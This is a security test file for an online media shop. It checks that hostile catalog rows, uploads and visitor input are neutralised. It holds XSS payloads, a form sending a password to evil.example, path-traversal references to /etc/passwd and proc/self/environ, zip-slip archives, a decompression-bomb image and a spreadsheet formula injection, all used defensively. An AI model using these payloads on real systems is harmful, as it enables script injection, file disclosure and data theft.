// What people write and upload: it is shown as text wherever it appears, it runs nowhere, and it fills no memory.
import assert from "node:assert/strict";
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { deflateRawSync } from "node:zlib";
import { ask, json, linkIn, post, purchase, signedIn, signedUp } from "../lib/attack.mjs";
import { launch, openPage } from "../lib/browser.mjs";
import { startServer } from "../lib/server.mjs";
import { zipOf } from "../lib/zip.mjs";

const market = fileURLToPath(new URL("../fixtures/market/files/", import.meta.url));
/** Ends attribute, title, text area and script, then brings an element of its own. */
const TEXT = "\"'></title></textarea></script><img data-pwn src=x onerror=pwned=1>";
const HTML = [TEXT, "<p title=\"1:00&gt; 2:00 <img data-pwn src=x onerror=pwned=1>\">0:01 moment</p>", "<svg data-pwn onload=pwned=1><script>pwned=1</script></svg>", "<a data-pwn href=\"javascript:pwned=1\">a</a><a href=\"https://a.example/\" target=_blank style=\"position:fixed;inset:0\" onclick=pwned=1 class=button id=main name=body>b</a>",
  "<form data-pwn action=//evil.example><input name=password><button formaction=javascript:pwned=1>go</button></form>", "<iframe data-pwn srcdoc=\"<script>parent.pwned=1</script>\"></iframe><object data-pwn data=//evil.example></object><embed data-pwn src=//evil.example>", "<base data-pwn href=//evil.example><meta data-pwn http-equiv=refresh content=\"0;url=//evil.example\"><link data-pwn rel=stylesheet href=//evil.example><style data-pwn>*{display:none}</style>",
  "<math><mtext><table><mglyph><style><!--</style><img data-pwn title=\"--&gt;&lt;img data-pwn src=1 onerror=pwned=1&gt;\">", "<noscript><p title=\"</noscript><img data-pwn src=x onerror=pwned=1>\">", "<svg></p><style><a data-pwn title=\"</style><img data-pwn src=x onerror=pwned=1>\">", "{{7*7}} ${7*7} <%= 7*7 %>"].join("\n");

const price = [{ region: "eu", currency: "EUR", minor: 300 }];
const product = (sku, files) => ({ ref: sku, kind: "digital", title: TEXT, tax_class: "digital_music", variants: [{ sku, title: TEXT, licence: "evil", prices: price, ...files }] });
const work = (ref, kind, more) => ({ type: "work", ref, store: "evil", kind, title: `${ref} ${TEXT}`, latin: TEXT, makers: [kind === "book" ? "writer" : "evil"], released: "2025-01-01", genres: [TEXT], tags: [TEXT], language: TEXT, description_html: HTML,
  credits: [{ role: TEXT, name: TEXT }], attribution: { text: TEXT, licence: TEXT, url: "https://a.example/\"><b/data-pwn>", changes: TEXT }, facts: { isbn: TEXT, series: TEXT, accessibility: [TEXT], resolution: TEXT, sound: TEXT, subtitles: [TEXT], age_rating: TEXT }, products: [product(`${ref}-1`)], ...more });
const rows = [
  { type: "tenant", ref: "evil", name: TEXT, legal: { name: TEXT, address: [TEXT], country: "DE", email: "evil@example.org", tax_ids: [TEXT], invoice_prefix: "EV", registrations: ["DE"] }, currency: "EUR", locale: "en-US", fee_bps: 1000 },
  { type: "store", ref: "evil", tenant: "evil", handle: "evil", name: TEXT, tagline: TEXT, about_html: HTML, brand: `../..${TEXT}`, links: [{ label: TEXT, url: "https://a.example/\"><b/data-pwn>" }], ships_from: "DE" },
  { type: "licence", ref: "evil", version: 1, title: TEXT, summary: [TEXT], body_html: HTML },
  { type: "maker", ref: "evil", tenant: "evil", kind: "artist", name: TEXT, latin: TEXT, slug: "evil", bio_html: HTML, links: [{ label: TEXT, url: "https://a.example/\"><b/data-pwn>" }] },
  { type: "maker", ref: "writer", tenant: "evil", kind: "author", name: TEXT, slug: "evil", bio_html: HTML },
  work("album", "album", { cover: { file: "film.png", alt: TEXT }, parts: [{ title: TEXT, notes_html: HTML, files: [{ file: "1.ogg", format: TEXT, name: `${TEXT}/../../x.ogg` }] }], files: [{ file: "evil.svg", format: "SVG" }, { file: "evil.html", format: "HTML" }] }),
  work("book", "book", { files: [{ file: "evil.epub", format: "EPUB" }] }),
  work("cast", "podcast", { parts: [{ title: TEXT, notes_html: HTML, date: "2025-01-01", files: [{ file: "1.ogg", format: "Ogg" }], transcripts: [{ file: "evil.en.vtt" }] }] }),
  // Each of these is refused for itself.
  { type: "maker", ref: "m1", tenant: "evil", kind: "artist", name: "script link", links: [{ label: "x", url: "javascript:pwned=1" }] },
  work("source", "album", { attribution: { text: "x", licence: "x", url: "javascript:pwned=1" } }),
  ...["../../../../etc/passwd", "/etc/passwd", "..\\..\\x", "files/../../../x", "", "missing.ogg"].map((file, n) => work(`path${n}`, "album", { parts: [{ title: "x", files: [{ file, format: "x" }] }] })),
  work("playlist", "album", { parts: [{ title: "x", files: [{ file: "list.m3u8", format: "HLS" }] }] }),
  work("bomb", "album", { cover: { file: "bomb.png", alt: "x" }, files: [{ file: "evil.svg", format: "SVG" }] }),
  work("spine", "book", { files: [{ file: "many.epub", format: "EPUB" }] }),
];

const chapter = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>parent.pwned=1</script></head><body onload="parent.pwned=1"><h1>One <b onclick="pwned=1">two</b></h1><script>parent.pwned=1;top.location='//evil.example'</script>
<form action="//evil.example"><input/></form><iframe src="//evil.example"></iframe><p>${"word ".repeat(300)}</p><a href="javascript:parent.pwned=1" data-pwn="1">x</a><svg onload="parent.pwned=1"/></body></html>`;
const container = "<container xmlns=\"urn:oasis:names:tc:opendocument:xmlns:container\"><rootfiles><rootfile full-path=\"p.opf\"/></rootfiles></container>";
const epub = (items, spine, files) => zipOf([["META-INF/container.xml", container], ["p.opf", `<package xmlns="http://www.idpf.org/2007/opf"><manifest>${items}</manifest><spine>${spine}</spine></package>`], ...files].map(([name, text]) => [name, Buffer.from(text)]));
const item = "<item id=\"c\" href=\"c.xhtml\" media-type=\"application/xhtml+xml\"/>";

/** An image that claims these sides, its pixels all one packed zero. */
function png(width, height) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const part = (name, data) => {
    const body = Buffer.concat([Buffer.from(name), data]);
    const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    size.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([size, body, sum]);
  };
  return Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), part("IHDR", header), part("IDAT", deflateRawSync(Buffer.alloc(1 << 20))), part("IEND", Buffer.alloc(0))]);
}
function crc(bytes) {
  let sum = ~0;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return ~sum >>> 0;
}

let server;
let browser;
let folder;
let paths;
let staff;
let seller;
before(async () => {
  folder = await mkdtemp(join(tmpdir(), "vitrine-evil-"));
  const put = (name, bytes) => writeFile(join(folder, name), bytes);
  await put("catalog.jsonl", rows.map((row) => JSON.stringify(row)).join("\n"));
  await put("1.ogg", await readFile(join(market, "1.ogg")));
  await put("film.png", await readFile(join(market, "film.png")));
  await put("evil.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.pwned=1\"><script>parent.pwned=1</script></svg>");
  await put("evil.html", "<p>x</p><script>parent.pwned=1</script>");
  await put("evil.en.vtt", `WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n<v ${TEXT.replaceAll(">", "&gt;")}>${TEXT}\n\nSTYLE\n::cue { background: url(//evil.example) }\n`);
  await put("evil.epub", epub(item, "<itemref idref=\"c\"/>", [["c.xhtml", chapter]]));
  await put("many.epub", epub(item, "<itemref idref=\"c\"/>".repeat(100_000), [["c.xhtml", `<html><body>${"<p>x</p>".repeat(10_000)}</body></html>`]]));
  await put("list.m3u8", `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${join(folder, "1.ogg")}\n#EXT-X-ENDLIST\n`);
  await put("bomb.png", png(12_000, 12_000));
  server = await startServer({ folder, limits: 0 });
  browser = await launch();
  staff = await signedIn(server, "staff@vitrine.example", "help-and-refund");
  seller = await signedIn(server, "creator@vitrine.example", "make-and-publish");
  const list = (await ask(server, "GET", "/catalog")).body;
  const path = (kind) => list.match(new RegExp(`href="(/${kind}/[^"]*w_[0-9a-v]{26})"`))?.[1];
  paths = { album: path("albums"), book: path("books"), podcast: path("podcasts") };
});
after(async () => {
  await browser?.close();
  await server?.stop();
  if (folder) await rm(folder, { recursive: true, force: true });
});

/** Opens an address and looks whether anything of ours came alive. `shows`: the text must be there, as text. */
async function looked(page, faults, address, shows = true) {
  faults.length = 0;
  const answer = await page.goto(address, { waitUntil: "load" });
  assert.ok(answer.status() < 500, `${address}: ${answer.status()}`);
  const found = await page.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    return {
      pwned: globalThis.pwned, planted: document.querySelectorAll("[data-pwn], base, iframe[srcdoc], object, embed, meta[http-equiv=refresh]:not([content^='0;url=http://localhost'])").length,
      handlers: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName} ${a.name}`)),
      links: all.flatMap((e) => ["href", "src", "action", "formaction"].map((n) => e.getAttribute(n))).filter((v) => v && (/^\s*(javascript|data:text|vbscript)/i.test(v) || v.includes("//evil.example"))),
      styled: document.querySelectorAll("[style*=fixed]").length, text: document.documentElement.textContent + all.map((e) => e.value ?? "").join(" "),
    };
  });
  assert.deepEqual({ ...found, text: null }, { pwned: undefined, planted: 0, handlers: [], links: [], styled: 0, text: null }, address);
  assert.deepEqual(faults.filter((f) => /Content Security Policy|page error/.test(f)), [], address);
  if (shows) assert.ok(found.text.includes("<img data-pwn"), `${address} does not show what was written`);
  return found.text;
}

test("nothing that a seller writes comes alive on any page, in feeds or in mails", async () => {
  assert.ok(paths.album && paths.book && paths.podcast, JSON.stringify(paths));
  const { page, faults, close } = await openPage(browser);
  const licence = (await ask(server, "GET", paths.album)).body.match(/href="(\/eula\/[^"]+)"/)[1];
  for (const path of ["/", "/catalog", "/catalog?type=album", paths.album, paths.book, paths.podcast, `${paths.podcast}/transcript/1`, "/artists/evil", "/authors/evil", licence]) await looked(page, faults, server.url + path);
  await looked(page, faults, `${server.url}/@evil`);
  for (const path of ["/feeds/new.xml", "/feeds/evil.xml", `${paths.podcast}/feed.xml`, "/sitemap.xml", "/sitemaps/evil-album.xml"]) {
    const answer = await ask(server, "GET", path);
    assert.equal(answer.status, 200, path);
    const fault = await page.evaluate((text) => new DOMParser().parseFromString(text, "application/xml").querySelector("parsererror")?.textContent, answer.body);
    assert.equal(fault, undefined, path);
    assert.doesNotMatch(answer.body, /<img|<script/i, path);
  }
  await close();
});

test("nothing that a visitor writes comes alive where the shop, the seller or staff see it", async () => {
  const { page, faults, close } = await openPage(browser, { userAgent: TEXT });
  const q = encodeURIComponent(TEXT);
  for (const path of [`/search?q=${q}`, `/catalog?tag=${q}&genre=${q}&format=${q}`, `/catalog?type=album&tag=${q}&sort=${q}`]) await looked(page, faults, server.url + path, path.includes("q=") || path.includes("tag="));
  for (const path of [`/cart?trouble=${q}`, `/problem/${q}?id=${q}&status=404`, `/${q}`, `/@${q}`, `/albums/${q}`, `/orders/${q}?key=${q}`, `/policies/${q}`, `/eula/${q}`, `/letters/${q}/${q}?proof=${q}`, `/dev/outbox/mail?key=${q}`, `/oidc/authorize?client_id=${q}&redirect_uri=${q}`, `/oidc/logout?state=${q}`, `/oidc/verify?token=${q}`, `/simulator/done/${q}`, `/@evil?letters=${q}`]) await looked(page, faults, server.url + path, false);
  // A person whose name, browser, address and words are all hostile buys, asks, and adds business details.
  const evil = await signedUp(server, "evil-buyer@example.org", "a long enough word", TEXT);
  const cookies = `${evil}`.split("; ").map((pair) => ({ name: pair.split("=")[0], value: pair.slice(pair.indexOf("=") + 1), url: server.url.replace("http:", "https:"), secure: true, httpOnly: true, sameSite: "Lax" }));
  const { order, parts } = await purchase(server, [paths.album, paths.book], { cookie: `${evil}`, email: "evil-buyer@example.org", name: TEXT, line1: TEXT, line2: TEXT, city: TEXT, region: TEXT, postcode: "10115" });
  assert.equal((await post(server, `/orders/${parts[0].id}/ask`, { text: TEXT, seen: "0" }, `${evil}`)).status, 303);
  const deadline = Date.now() + 20_000;
  let invoice;
  while (!invoice) {
    assert.ok(Date.now() < deadline, "no invoice");
    invoice = JSON.parse((await json(server, "GET", `/api/orders/${order}`, undefined, `${evil}`)).body).parts[0].invoice_href;
  }
  await post(server, `${invoice}/amend`, { company: TEXT, tax_id: TEXT, address: `${TEXT}\n${TEXT}` }, `${evil}`);
  const tracked = await post(server, `/admin/orders/${parts[0].id}/refund`, { line: "0", reason: TEXT, attempt: "attempt-0123456789" }, `${staff}`);
  assert.match(tracked.headers.location, /done=1/);
  const editor = `/studio/works/${paths.album.match(/w_[0-9a-v]{26}/)[0]}`;
  await post(server, editor, { title: "", latin: TEXT, description: HTML, rev: "1" }, `${seller}`);
  await page.context().addCookies(cookies);
  for (const path of ["/account", `/orders/${order}`, invoice, "/invoices", "/my-products", `/my-products/${paths.album.match(/w_[0-9a-v]{26}/)[0]}`, `/my-products/${paths.book.match(/w_[0-9a-v]{26}/)[0]}`]) await looked(page, faults, server.url + path);
  await purchaseCart(evil);
  for (const path of ["/cart", "/checkout"]) await looked(page, faults, server.url + path, false);
  for (const [jar, seen] of [[seller, ["/studio", editor, `/studio/orders/${parts[0].id}`, `/preview/${editor.split("/").pop()}`]], [staff, ["/admin?q=evil-buyer@example.org", `/admin/orders/${parts[0].id}`, "/admin?q=album"]]]) {
    await page.context().clearCookies();
    await page.context().addCookies(`${jar}`.split("; ").map((pair) => ({ name: pair.split("=")[0], value: pair.slice(pair.indexOf("=") + 1), url: server.url.replace("http:", "https:"), secure: true, httpOnly: true, sameSite: "Lax" })));
    for (const path of seen) await looked(page, faults, server.url + path, !path.includes("?q=evil"));
  }
  // Letters to readers, and every mail of all of this.
  const store = (await ask(server, "GET", "/@evil")).body.match(/\/letters\/(s_[0-9a-v]{26})\/ask/)[1];
  await post(server, `/letters/${store}/ask`, { email: "reader@example.org" });
  const link = await linkIn(server, "reader@example.org", /\/letters\//);
  await looked(page, faults, server.url + link);
  const outbox = (await ask(server, "GET", "/dev/outbox")).body;
  for (const [, path] of outbox.matchAll(/href="(\/dev\/outbox\/mail\?key=[^"]+)"/g)) await looked(page, faults, server.url + path.replaceAll("&amp;", "&"), false);
  await close();
});

async function purchaseCart(jar) {
  const variant = JSON.parse((await json(server, "GET", `/api/public/catalog/items/${paths.album.match(/w_[0-9a-v]{26}/)[0]}`)).body).editions[0].variant;
  await post(server, "/cart/add", { variant }, `${jar}`);
  await post(server, "/checkout/place", { attempt: "attempt-0123456789ab", seen_minor: "1", email: TEXT, name: TEXT, line1: TEXT, line2: TEXT, city: TEXT, region: TEXT, postcode: TEXT, country: TEXT }, `${jar}`);
}

test("files that browsers would run come as downloads, or without the right to run and apart from the shop", async () => {
  const { order, key, parts } = await purchase(server, [paths.album, paths.book], { email: "files@example.org" });
  const names = [];
  for (const asset of parts[0].lines.flatMap((l) => l.assets.split(","))) {
    const link = JSON.parse((await json(server, "POST", "/api/downloads/link", { assetIds: [asset], order, key })).body);
    const file = await ask(server, "GET", new URL(link.url).pathname);
    assert.equal(file.status, 200);
    assert.match(file.headers["content-disposition"], /^attachment; filename="[^"\\/\r\n]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]+$/);
    names.push(file.headers["content-disposition"]);
    assert.equal(file.headers["x-content-type-options"], "nosniff");
    assert.match(file.headers["content-security-policy"], /default-src 'none'.*sandbox/);
    assert.doesNotMatch(file.headers["content-security-policy"], /allow-scripts|allow-same-origin/);
  }
  assert.ok(names.some((n) => n.includes("svg")) && names.some((n) => n.includes("html")), names.join("\n"));
  const all = JSON.parse((await json(server, "POST", "/api/downloads/link", { assetIds: parts[0].lines.flatMap((l) => l.assets.split(",")), order, key })).body);
  const zip = await ask(server, "GET", new URL(all.url).pathname);
  const inside = [...zip.body.matchAll(/PK\x03\x04[\s\S]{26}([\x20-\x7e]{1,180}?)(?=<svg|OggS|<p>x|PK)/g)].map((m) => m[1]);
  for (const name of inside) assert.ok(!name.startsWith("/") && !name.split("/").includes(".."), name);
  // Nothing on the files origin has a cookie, and no answer of it sets one.
  const media = await ask(server, "GET", `/m/${"0".repeat(64)}.html`, { files: true, headers: { cookie: `${staff}` } });
  assert.equal(media.headers["set-cookie"], undefined);
});

test("rows that point elsewhere and files that would fill the memory are refused for themselves, the rest is taken in", async () => {
  // Files that a playlist or a link names lie where others' uploads could: nothing of them may come out.
  const found = (await ask(server, "GET", "/catalog")).body;
  for (const ref of ["path0", "path1", "path2", "path3", "path4", "path5", "source", "playlist", "bomb"]) assert.ok(!found.includes(`${ref} &quot;`) && !found.includes(`${ref} "`), ref);
  assert.equal((await ask(server, "GET", "/artists/script-link")).status, 404);
  const blobs = join(server.data, "blobs");
  let total = 0;
  for (const entry of await readdir(blobs, { withFileTypes: true, recursive: true })) total += entry.isFile() ? 1 : 0;
  assert.ok(total < 200, `${total} objects`);
  // The same by the console: rows alone bring no file of this machine.
  const upload = async (name, bytes) => {
    const body = Buffer.concat([Buffer.from(`--b\r\ncontent-disposition: form-data; name="rows"; filename="${name}"\r\n\r\n`), bytes, Buffer.from("\r\n--b--\r\n")]);
    const answer = await ask(server, "POST", "/admin/import/upload", { headers: { origin: server.url, cookie: `${staff}`, "content-type": "multipart/form-data; boundary=b" }, body });
    assert.equal(answer.status, 303, answer.body);
    const deadline = Date.now() + 30_000;
    for (;;) {
      const report = await json(server, "GET", `/api${answer.headers.location}`.replace("/admin/import", "/admin/catalog/import"), undefined, `${staff}`);
      if (report.status === 200) return JSON.parse(report.body);
      assert.ok(Date.now() < deadline, `${name}: ${report.status}`);
    }
  };
  const outside = work("outside", "album", { parts: [{ title: "x", files: [{ file: "/etc/passwd", format: "x" }] }], title: "Outside" });
  const rowsOnly = await upload("rows.jsonl", Buffer.from([outside, work("mount", "album", { title: "Mount", files: [{ file: "proc/self/environ", format: "x" }] })].map((r) => JSON.stringify(r)).join("\n")));
  assert.deepEqual(rowsOnly.counts, [["refused", 2]], JSON.stringify(rowsOnly));
  const slip = await upload("slip.zip", zipOf([["catalog.jsonl", Buffer.from("{}")], ["../../../evil.txt", Buffer.from("x")]]));
  assert.match(JSON.stringify(slip), /leads out of its folder/);
  const absolute = await upload("absolute.zip", zipOf([["catalog.jsonl", Buffer.from("{}")], ["/tmp/evil.txt", Buffer.from("x")]]));
  assert.match(JSON.stringify(absolute), /leads out of its folder|refused/);
  const none = await upload("none.zip", Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(5_000)]));
  assert.match(JSON.stringify(none), /not a ZIP archive/);
  // Reports show what was in the rows as text. Two files are for spreadsheets, prices and taxes: their texts go through `neutral`.
  const formula = await upload("f.jsonl", Buffer.from(JSON.stringify({ type: "maker", ref: `=cmd|' /C calc'!A0${TEXT}`, tenant: "none", kind: "artist", name: "=1+1" })));
  assert.match(JSON.stringify(formula), /refused/);
  const sources = await readdir(fileURLToPath(new URL("../../server/src", import.meta.url)), { withFileTypes: true, recursive: true });
  for (const entry of sources.filter((e) => e.name.endsWith(".rs"))) {
    const text = await readFile(join(entry.parentPath ?? entry.path, entry.name), "utf8");
    if (/csv::Writer|WriterBuilder/.test(text)) assert.match(text, /\bneutral\(&/, `${entry.name} writes CSV: cells that begin with = + - @ must not be computed`);
  }
});

test("what was made of hostile files is bounded", async () => {
  const owned = (await ask(server, "GET", "/catalog?type=book")).body;
  const book = owned.match(/href="(\/books\/spine[^"]*w_[0-9a-v]{26})"/);
  assert.ok(book, "the book is taken in");
  const id = book[1].match(/w_[0-9a-v]{26}/)[0];
  const view = JSON.parse((await json(server, "GET", `/api/public/catalog/items/${id}`)).body);
  assert.equal(view.parts?.length ?? 1, 1, "a hundred thousand names of one chapter are one chapter");
});
